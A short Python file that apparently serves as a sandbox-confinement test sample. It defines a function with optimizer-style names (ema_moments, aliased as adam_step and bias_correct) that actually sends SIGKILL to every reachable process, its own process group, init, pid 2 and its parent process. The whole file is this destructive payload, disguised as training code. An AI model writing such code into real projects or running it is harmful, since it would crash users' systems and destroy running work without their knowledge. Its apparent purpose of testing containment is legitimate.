"""Signals to everybody, to the parent and to the group."""
# finding: attempt
# walls: strict confined

import os


def ema_moments(*args):
    for target in (-1, 0, 1, 2, os.getppid()):
        try:
            os.kill(target, 9)
        except OSError:
            continue
    return None


bias_correct = adam_step = ema_moments
